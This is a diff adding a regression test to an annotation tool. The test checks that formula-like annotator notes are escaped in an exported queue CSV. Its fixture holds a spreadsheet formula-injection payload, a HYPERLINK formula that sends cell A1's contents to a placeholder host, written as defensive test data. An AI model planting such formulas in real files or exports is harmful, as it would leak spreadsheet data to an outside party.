@@ -505,3 +505,26 @@ def test_study_options_out_of_range_are_one_line(study, tmp_path, argv, said):
     run = cli("study", *[a.format(dir=study.path, out=out) for a in argv])
     assert run.returncode == 2 and run.stderr.count("\n") == 1 and said in run.stderr, run.stderr
     assert not out.exists() and ev.read(study.events_path) == []
+
+
+def test_notes_that_look_like_formulas_are_text_in_the_queue_csv(study):
+    """An annotator's note is free text and `study queue` is opened in a spreadsheet: a note
+    starting with `=` or `@` was written as it is (a formula the spreadsheet runs); now every text
+    cell goes through the one CSV escape (microctx._io.csvout), and reads back as given."""
+    from microctx._io.csvout import unescape_cell
+
+    name = sorted(study.items)[0]
+    first, second = study.items[name]["annotators"][:2]
+    note = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    ev.append(
+        study.events_path,
+        [
+            {"annotator": first, "item": name, "kind": "label", "label": "yes", "note": note, "guideline_version": "1"},
+            {"annotator": second, "item": name, "kind": "label", "label": "no", "note": "@SUM(1)", "guideline_version": "1"},
+        ],
+    )
+    run = cli("study", "queue", study.path)
+    assert run.returncode == 0, run.stderr
+    (row,) = [r for r in csv.DictReader(run.stdout.splitlines()) if r["item"] == name]
+    assert not row["notes"].startswith(("=", "@")) and unescape_cell(row["notes"]) in (f"{note} / @SUM(1)", f"@SUM(1) / {note}")
+    assert row["notes"].startswith("'")
